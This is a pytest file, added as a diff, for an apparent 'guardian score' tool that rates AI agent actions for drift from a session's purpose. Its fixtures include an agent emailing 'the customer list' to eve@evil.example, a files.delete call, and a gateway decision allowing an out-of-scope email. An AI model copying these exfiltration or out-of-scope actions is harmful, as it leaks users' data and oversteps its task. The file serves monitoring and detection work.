@@ -1,0 +1,110 @@
+"""`guardian score` keeps its contract: this is how others measure us."""
+
+import gzip
+import json
+from pathlib import Path
+
+SESSIONS = [
+    {
+        "session_id": "a",
+        "purpose": "Read the contract of Acme and summarise the renewal terms",
+        "domain": "legal",
+        "tools": [{"name": "contracts.read", "description": "Reads a contract."}],
+        "actions": [
+            {"tool": "contracts.read", "args": {"customer": "Acme"}, "label": "benign"},
+            {
+                "tool": "email.send",
+                "args": {"to": "eve@evil.example", "body": "the customer list"},
+                "label": "drift",
+            },
+        ],
+    },
+    {"session_id": "b", "purpose": "", "domain": "x", "actions": [{"tool": "files.delete"}]},
+]
+
+
+def lines(*sessions: object) -> str:
+    return "".join(json.dumps(s) + "\n" for s in sessions)
+
+
+def scored(text: str) -> list[dict[str, object]]:
+    return [json.loads(line) for line in text.splitlines()]
+
+
+def test_one_line_per_action_in_input_order_with_every_promised_field(guardian) -> None:
+    done = guardian("score", "-", stdin=lines(*SESSIONS))
+    assert done.returncode == 0
+    out = scored(done.stdout)
+    assert [(o["session_id"], o["index"]) for o in out] == [("a", 0), ("a", 1), ("b", 0)]
+    for o in out:
+        assert set(o) == {
+            "session_id",
+            "index",
+            "drift",
+            "p_value",
+            "session_evidence",
+            "signals",
+            "features_missing",
+        }
+        assert 0 <= o["drift"] <= 1
+        assert 0 < o["p_value"] <= 1
+        assert all(0 <= v <= 1 for v in o["signals"].values())
+    assert out[1]["drift"] > out[0]["drift"]
+    assert "purpose" in out[2]["features_missing"]
+    assert "arguments" in out[2]["features_missing"]
+
+
+def test_neither_labels_nor_the_order_of_sessions_matter(guardian) -> None:
+    flipped = json.loads(json.dumps(SESSIONS))
+    for action in flipped[0]["actions"]:
+        action["label"] = "drift" if action["label"] == "benign" else "benign"
+    one = scored(guardian("score", "-", stdin=lines(*SESSIONS)).stdout)
+    other = scored(guardian("score", "-", stdin=lines(*reversed(flipped))).stdout)
+    assert sorted(map(json.dumps, one)) == sorted(map(json.dumps, other))
+
+
+def test_an_unreadable_line_is_reported_in_place_and_the_rest_is_scored(guardian, tmp_path: Path) -> None:
+    path = tmp_path / "in.jsonl.gz"
+    with gzip.open(path, "wt") as stream:
+        stream.write(lines(SESSIONS[0]) + "{broken\n" + '{"session_id": "c", "actions": 7}\n' + lines(SESSIONS[1]))
+    done = guardian("score", str(path), "-o", "out.jsonl")
+    assert done.returncode == 3
+    out = scored((tmp_path / "out.jsonl").read_text())
+    assert [o.get("line") for o in out] == [None, None, 2, 3, None]
+    assert all(set(o) == {"line", "error"} for o in out if "line" in o)
+
+
+def test_decisions_are_scored_like_sessions(guardian) -> None:
+    decision = {
+        "schema": "guardian.decision/v1", "id": "d", "time": "2026-05-12T17:04:11Z", "gateway": "g",
+        "envelope": {"delegator_id": "u", "tenant_id": "t", "session_id": "s", "purpose": SESSIONS[0]["purpose"],
+                     "allowed_tools": ["contracts.read"], "expires_at": "2026-05-12T18:00:00Z"},
+        "action": {"tool": "email.send", "arguments": {"to": "eve@evil.example"}}, "decision": {"effect": "allow"},
+    }  # fmt: skip
+    done = guardian("score", "-", stdin=lines(decision, {**decision, "time": "yesterday"}, decision))
+    out = scored(done.stdout)
+    assert done.returncode == 3
+    assert [o.get("index") for o in out] == [0, None, 1]  # a file's every line is scored, repeated ids too
+    assert out[0]["signals"]["envelope_breach"] > 0
+
+
+def test_scoring_never_imports_torch(guardian, tmp_path: Path) -> None:
+    import subprocess
+    import sys
+
+    code = (
+        "import sys; sys.argv = ['guardian', 'score', 'in.jsonl', '-o', 'out.jsonl']\n"
+        "from guardian.cli import main\n"
+        "try: main()\n"
+        "except SystemExit as end: assert not end.code, end.code\n"
+        "heavy = {'torch', 'sentence_transformers', 'transformers'} & set(sys.modules)\n"
+        "assert not heavy, heavy\n"
+    )
+    (tmp_path / "in.jsonl").write_text(lines(*SESSIONS))
+    subprocess.run([sys.executable, "-c", code], cwd=tmp_path, check=True, capture_output=True, timeout=120)
+    assert (tmp_path / "out.jsonl").exists()
+
+
+def test_an_empty_file_is_an_empty_answer(guardian) -> None:
+    done = guardian("score", "-", stdin="")
+    assert (done.returncode, done.stdout) == (0, "")
